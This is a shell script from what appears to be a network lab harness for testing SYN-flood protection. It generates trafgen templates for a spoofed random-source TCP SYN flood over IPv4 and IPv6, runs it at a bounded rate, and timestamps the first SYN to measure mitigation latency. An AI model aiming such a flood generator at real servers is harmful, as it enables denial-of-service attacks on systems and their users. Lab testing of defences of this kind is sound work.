# attack.sh: the random-source SYN flood (trafgen, netsniff-ng) from the attacker namespace, at a bounded rate
# so the rest of the lab keeps CPU on two cores. Sources: random addresses in 11.0.0.0-126.255.255.255 (never
# the lab's own 10.99/16), random ports and sequence numbers; destination the protected server's service port.
# trafgen in a netns cannot raise its own socket buffer, so net.core.wmem_default (machine-wide) is raised for
# the run and put back by the cleanup stack.

attack_config() { # > trafgen config
	local m=$ROUTER_MAC_ATT src
	src=$(mac_of "$NS_ATTACKER" a0)
	if [ "${PROTECTED_IP#*:}" != "$PROTECTED_IP" ]; then
		attack_config6 "$m" "$src"
		return
	fi
	cat <<-EOF
		/* lab SYN flood: $src -> router $m, random source -> $VM_IP4:$SERVICE_PORT */
		{
		  0x${m//:/, 0x},
		  0x${src//:/, 0x},
		  c16(0x0800),
		  0x45, 0x00, c16(40), drnd(2), c16(0x4000), 64, 6, csumip(14, 33),
		  dinc(11, 126), drnd(3),
		  ${VM_IP4//./, },
		  drnd(2), c16($SERVICE_PORT), drnd(4), c32(0),
		  c16(0x5002), c16(64240), csumtcp(14, 34), c16(0)
		}
	EOF
}

# ip6_bytes ADDR: "0xfd, 0x99, ..." (16 bytes) of an IPv6 address written with or without "::"
ip6_bytes() {
	awk -v a="$1" 'BEGIN {
		at = index(a, "::")
		if (at) {
			h = (at > 1) ? split(substr(a, 1, at - 1), hp, ":") : 0
			t = (at + 1 < length(a)) ? split(substr(a, at + 2), tp, ":") : 0
			for (i = 1; i <= h; i++) g[++n] = hp[i]
			for (i = 1; i <= 8 - h - t; i++) g[++n] = "0"
			for (i = 1; i <= t; i++) g[++n] = tp[i]
		} else n = split(a, g, ":")
		for (i = 1; i <= 8; i++) {
			v = 0; s = tolower(g[i])
			for (j = 1; j <= length(s); j++) v = v * 16 + index("0123456789abcdef", substr(s, j, 1)) - 1
			printf "%s0x%02x, 0x%02x", (i > 1 ? ", " : ""), int(v / 256), v % 256
		}
	}'
}

# attack_config6 ROUTER_MAC SRC_MAC: the same flood over IPv6, random sources in 2001:db8::/32 (the router's
# blackhole default swallows the replies), destination the protected IPv6 address
attack_config6() {
	local dst
	dst=$(ip6_bytes "$PROTECTED_IP")
	cat <<-EOF
		/* lab SYN flood: $2 -> router $1, random source -> [$PROTECTED_IP]:$SERVICE_PORT */
		{
		  0x${1//:/, 0x},
		  0x${2//:/, 0x},
		  c16(0x86dd),
		  0x60, 0x00, 0x00, 0x00, c16(20), 6, 64,
		  0x20, 0x01, 0x0d, 0xb8, drnd(12),
		  $dst,
		  drnd(2), c16($SERVICE_PORT), drnd(4), c32(0),
		  c16(0x5002), c16(64240), csumtcp6(14, 54), c16(0)
		}
	EOF
}

attack_prepare() {
	attack_config >"$WORK/flood.trafgen"
	WMEM_SAVED=$(sysctl -n net.core.wmem_default)
	on_exit "sysctl -qw net.core.wmem_default=$WMEM_SAVED"
	sysctl -qw net.core.wmem_default=4194304
}

# attack_start PPS: FLOOD_FIRST_MS is the kernel's receive timestamp of the flood's first SYN at the router (r-att:
# only the attacker is behind it), captured by tcpdump armed before trafgen starts; every latency in the RESULT line
# counts from it
attack_start() {
	local i
	: >"$WORK/flood-first.txt"
	# BPF's tcp[] reaches IPv4 only: over IPv6 the flags are byte 13 of the TCP header right after the 40-byte header
	nsx_bg "$NS_ROUTER" tcpdump -i r-att -Q in -c 1 -n -tt --time-stamp-precision=micro \
		"(ip and tcp[tcpflags] & (tcp-syn|tcp-ack) == tcp-syn) or (ip6 and ip6[6] == 6 and ip6[53] & 0x12 == 0x02)" \
		>"$WORK/flood-first.txt" 2>"$WORK/flood-first.log"
	FIRST_PID=$BG_PID
	for ((i = 0; i < 100; i++)); do
		grep -q 'listening on' "$WORK/flood-first.log" && break
		sleep 0.05
	done
	nsx_bg "$NS_ATTACKER" trafgen --dev a0 --conf "$WORK/flood.trafgen" --rate "${1}pps" --cpus 1 -q \
		>"$WORK/trafgen.log" 2>&1
	ATTACK_PID=$BG_PID
}

# flood_first_ms: the first SYN's timestamp in ms (empty if tcpdump saw none), once the capture is stopped
flood_first_ms() {
	awk 'NR == 1 && $1 ~ /^[0-9]+\.[0-9]+$/ { split($1, t, "."); printf "%d%03d\n", t[1], substr(t[2], 1, 3) }' \
		"$WORK/flood-first.txt"
}

# trafgen stops cleanly (and reaps its sender) on SIGINT, like ^C
attack_stop() {
	local kids pid
	kill_wait "${FIRST_PID:-}" 2 # the first-SYN capture, if no SYN ever came
	FIRST_PID=
	[ -n "${ATTACK_PID:-}" ] || return 0
	# trafgen forks one sender per CPU: a terminal ^C reaches all of them, so signal each one
	kids=$(ps -o pid= --ppid "$ATTACK_PID" 2>/dev/null)
	kill -INT "$ATTACK_PID" $kids 2>/dev/null
	for pid in $kids "$ATTACK_PID"; do
		kill_wait "$pid" 3
	done
	ATTACK_PID=
}
